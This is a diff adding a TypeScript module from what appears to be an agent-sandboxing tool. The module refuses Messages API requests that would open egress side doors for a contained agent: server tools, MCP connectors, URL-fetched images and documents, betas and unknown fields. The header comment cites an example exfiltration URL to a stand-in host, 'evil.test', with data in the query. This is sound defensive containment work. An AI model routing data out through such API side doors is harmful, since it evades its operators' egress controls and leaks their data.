@@ -1,0 +1,141 @@
+/**
+ * Default-deny for what the Messages API would do on the agent's behalf
+ * beyond answering: server tools, the MCP connector, URL fetches of images
+ * and documents, betas, and request fields bulkhead does not know (the next
+ * side door will arrive as a new field or a new tool type). Whatever a
+ * profile does not allow (see policy/schema/llm.ts) is refused before
+ * anything is sent, naming the field, so an agent whose egress is closed
+ * cannot have the API fetch `https://evil.test/?d=<data>` instead.
+ *
+ * Client tools (the agent's own definitions, run by the agent inside the
+ * sandbox) stay allowed, and so do the Anthropic-defined tools that the
+ * client executes (bash, text editor, computer use, memory).
+ */
+import type { ProfileLlm } from '../policy/schema/llm.js';
+
+export interface SideDoor {
+  /** The request field that opened it, as a path (`tools[2].type`, `anthropic-beta`). */
+  field: string;
+  message: string;
+}
+
+/** Request fields that ask the API for nothing beyond an answer. */
+const KNOWN_FIELDS = new Set([
+  'model',
+  'messages',
+  'system',
+  'max_tokens',
+  'metadata',
+  'stop_sequences',
+  'stream',
+  'temperature',
+  'top_k',
+  'top_p',
+  'tools',
+  'tool_choice',
+  'thinking',
+  'service_tier',
+  'context_management',
+  'output_format',
+  'output_config',
+  'container',
+  'mcp_servers',
+]);
+
+/** Anthropic-defined tools the client runs itself: they reach nothing the sandbox does not allow. */
+const CLIENT_EXECUTED =
+  /^(bash|text_editor|str_replace_editor|str_replace_based_edit_tool|computer|memory)(_\d{8})?$/;
+
+/** The tool type without its version date: `web_search_20250305` → `web_search`. */
+export function toolFamily(type: string): string {
+  return type.replace(/_\d{8}$/, '');
+}
+
+function where(field: string, rule: string): string {
+  return `${field} is not allowed for this run (profile setting llm.${rule})`;
+}
+
+export function findSideDoor(
+  body: Record<string, unknown>,
+  betaHeader: string | null,
+  allowed: ProfileLlm,
+): SideDoor | undefined {
+  for (const beta of (betaHeader ?? '').split(',').map((b) => b.trim())) {
+    if (beta && !allowed.betas.includes(beta))
+      return { field: 'anthropic-beta', message: where(`beta ${JSON.stringify(beta)}`, 'betas') };
+  }
+  for (const field of Object.keys(body)) {
+    if (!KNOWN_FIELDS.has(field) && !allowed.body_fields.includes(field))
+      return {
+        field,
+        message: where(`the request field ${JSON.stringify(field)}`, 'body_fields'),
+      };
+  }
+  if (body.mcp_servers !== undefined) {
+    const servers = Array.isArray(body.mcp_servers) ? body.mcp_servers : [body.mcp_servers];
+    for (const [i, server] of servers.entries()) {
+      const url = (server as { url?: unknown } | null)?.url;
+      if (typeof url !== 'string' || !allowedUrl(url, allowed.mcp_servers))
+        return {
+          field: `mcp_servers[${i}].url`,
+          message: where(`the MCP server ${JSON.stringify(url ?? null)}`, 'mcp_servers'),
+        };
+    }
+  }
+  if (body.tools !== undefined) {
+    const tools = Array.isArray(body.tools) ? body.tools : [body.tools];
+    for (const [i, tool] of tools.entries()) {
+      const type = (tool as { type?: unknown } | null)?.type;
+      if (type === undefined || type === null || type === 'custom') continue;
+      if (typeof type === 'string' && CLIENT_EXECUTED.test(type)) continue;
+      const name = String(type);
+      if (!allowed.server_tools.includes(name) && !allowed.server_tools.includes(toolFamily(name)))
+        return {
+          field: `tools[${i}].type`,
+          message: where(`the server tool ${JSON.stringify(name)}`, 'server_tools'),
+        };
+    }
+  }
+  if (!allowed.url_sources) {
+    const found = urlSource(body.messages, 'messages') ?? urlSource(body.system, 'system');
+    if (found)
+      return { field: found, message: where(`the content at ${found}, fetched by URL,`, 'url_sources') };
+  }
+  return undefined;
+}
+
+function allowedUrl(url: string, list: readonly string[]): boolean {
+  let href: string;
+  try {
+    href = new URL(url).href;
+  } catch {
+    return false;
+  }
+  return list.some((entry) => new URL(entry).href === href);
+}
+
+/**
+ * The path of the first content block whose source the API would fetch by
+ * URL (images, documents, also inside tool results), if any. The body's
+ * nesting is already bounded (body.ts), so the walk is too.
+ */
+function urlSource(value: unknown, path: string): string | undefined {
+  if (Array.isArray(value)) {
+    for (const [i, item] of value.entries()) {
+      const found = urlSource(item, `${path}[${i}]`);
+      if (found) return found;
+    }
+    return undefined;
+  }
+  if (!value || typeof value !== 'object') return undefined;
+  const source = (value as { source?: unknown }).source;
+  if (source && typeof source === 'object' && (source as { type?: unknown }).type === 'url')
+    return `${path}.source`;
+  for (const [key, item] of Object.entries(value)) {
+    if (item && typeof item === 'object') {
+      const found = urlSource(item, `${path}.${key}`);
+      if (found) return found;
+    }
+  }
+  return undefined;
+}
